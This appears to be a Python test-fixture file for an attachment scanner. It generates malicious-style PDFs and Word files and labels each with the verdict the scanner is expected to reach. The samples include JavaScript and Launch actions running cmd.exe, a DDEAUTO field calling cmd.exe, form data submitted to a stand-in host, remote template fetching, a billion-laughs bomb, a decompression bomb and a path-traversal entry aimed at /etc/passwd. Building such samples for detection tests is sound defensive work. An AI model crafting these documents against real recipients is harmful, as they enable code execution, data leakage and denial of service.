"""The documents of the zoo: PDFs and letters that run, fetch, carry or unfold."""

import struct
import zipfile
import zlib
from io import BytesIO

from tests.attachments import good

SCRIPT = b"<script>fetch('/children/')</script>"
PAGE = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
RUNS, ELSE = "could run", "something else in this file"
LETTER, CARRIES, FETCHES = "carries a program", "carries other files", "fetches things"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def zipped(**parts):
    found = BytesIO()
    with zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name.replace("__", "/"), content)
    return found.getvalue()


def with_part(name, content=b"x"):
    return good.docx(parts={name: content})


def bomb_of_words():
    """A letter that says a billion laughs."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    entities = f'<!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]>'
    return good.docx(
        document=f"<?xml version='1.0'?>{entities}<w:document {good.W}>&l9;</w:document>"
    )


def squeezed_pdf(body):
    """A PDF in which an object stands inside a squeezed stream, where no plain search meets it."""
    inner = b"6 0 " + body
    packed = zlib.compress(inner)
    stream = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    )
    made = good.pdf(stream % (len(packed), packed))
    place, begins = made.index(b"5 0 obj"), made.index(b"xref")
    places = [made.index(b"%d 0 obj" % n) for n in range(1, 5)]
    rows = [(0, 0, 65535), *[(1, at, 0) for at in places], (1, place, 0), (2, 5, 0), (1, begins, 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    head = b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode"
    head += b" /Length %d >>\n"
    return (
        made[:begins]
        + head % len(table)
        + b"stream\n"
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % begins
    )


def field(words):
    return f"<w:p><w:r><w:instrText>{words}</w:instrText></w:r></w:p>"


def encrypted_zip():
    letter = bytearray(good.docx())
    for mark in (b"PK\3\4", b"PK\1\2"):
        at = letter.find(mark)
        while at >= 0:
            letter[at + (6 if mark == b"PK\3\4" else 8)] |= 1
            at = letter.find(mark, at + 4)
    return bytes(letter)


def many(name, n):
    return {f"word/{name}{number}.xml": "<a/>" for number in range(n)}


DOCUMENTS = {
    # documents
    "a PDF that runs": (
        "a.pdf",
        good.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>", catalog=b"/OpenAction 5 0 R "),
        "program",
    ),
    "a PDF that runs by another spelling": (
        "a.pdf",
        good.pdf(b"<< /S /J#61vaScript /JS (x) >>", catalog=b"/OpenAction 5 0 R "),
        "program",
    ),
    "a PDF that runs, squeezed": (
        "a.pdf",
        squeezed_pdf(b"<< /S /JavaScript /JS (x) >>"),
        "program",
    ),
    "a PDF that starts a program": ("a.pdf", good.pdf(b"<< /S /Launch /F (cmd.exe) >>"), "program"),
    "a PDF with files in it": (
        "a.pdf",
        good.pdf(b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"),
        "other files",
    ),
    "a PDF with a named file": (
        "a.pdf",
        good.pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >> "),
        "other files",
    ),
    "a PDF that sends what is typed": (
        "a.pdf",
        good.pdf(b"<< /S /SubmitForm /F (http://x.example.test) >>"),
        "program",
    ),
    "a PDF with a film player": (
        "a.pdf",
        good.pdf(b"<< /Type /Annot /Subtype /RichMedia >>"),
        "program",
    ),
    "a PDF with a form of another kind": (
        "a.pdf",
        good.pdf(catalog=b"/AcroForm << /XFA [] >> "),
        "program",
    ),
    "a PDF that is locked": (
        "a.pdf",
        good.pdf(
            b"<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>",
            trailer=b"/Encrypt 5 0 R /ID [(a)(a)] ",
        ),
        "password",
    ),
    "a PDF with a page behind it": ("a.pdf", good.pdf(after=PAGE), ELSE),
    "a PDF that is an archive too": ("a.pdf", good.pdf(after=zipped(a="x") + b"%%EOF"), ELSE),
    "a PDF cut short": ("a.pdf", good.pdf()[:-40], "cut short"),
    "a PDF of nothing": ("a.pdf", b"%PDF-1.7\n" + SCRIPT + b"\n%%EOF", "damaged"),
    "a letter with a macro": ("a.docx", with_part("word/vbaProject.bin"), LETTER),
    "a letter that says it has macros": (
        "a.docx",
        good.docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        LETTER,
    ),
    "a letter with a control": ("a.docx", with_part("word/activeX/activeX1.xml", "<a/>"), LETTER),
    "a letter with a table of sums": ("a.docx", with_part("word/embeddings/sums.xlsx"), CARRIES),
    "a letter with a drawing that runs": (
        "a.docx",
        with_part("word/media/a.svg", DRAWING),
        CARRIES,
    ),
    "a letter with a page in it": ("a.docx", good.docx("<w:altChunk/>"), CARRIES),
    "a letter with a template elsewhere": (
        "a.docx",
        good.docx(parts=good.relation("attachedTemplate", "http://x.example.test/a.dotm")),
        FETCHES,
    ),
    "a letter with a picture elsewhere": (
        "a.docx",
        good.docx(parts=good.relation("image", "http://x.example.test/a.png")),
        FETCHES,
    ),
    "a letter with a link to a file": (
        "a.docx",
        good.docx(parts=good.relation("hyperlink", "file:////x/a")),
        FETCHES,
    ),
    "a letter that asks a program": (
        "a.docx",
        good.docx(field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
        FETCHES,
    ),
    "a letter that asks by halves": (
        "a.docx",
        good.docx(
            "<w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
            "<w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>"
        ),
        FETCHES,
    ),
    "a letter of a billion laughs": ("a.docx", bomb_of_words(), ELSE),
    "a letter that unfolds": ("a.docx", with_part("word/a.xml", bytes(60_000_000)), "unfolds"),
    "a letter of very many parts": ("a.docx", good.docx(parts=many("a", 1600)), "unfolds"),
    "a letter that is locked": ("a.docx", encrypted_zip(), "password"),
    "a letter that climbs": ("a.docx", with_part("../../etc/passwd"), ELSE),
    "a letter with a page before it": ("a.docx", PAGE + good.docx(), "not a kind of file"),
    "a letter with a page behind it": ("a.docx", good.docx() + PAGE, ELSE),
    "a table of sums": (
        "a.xlsx",
        good.docx(
            main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        ),
        "not a letter",
    ),
}
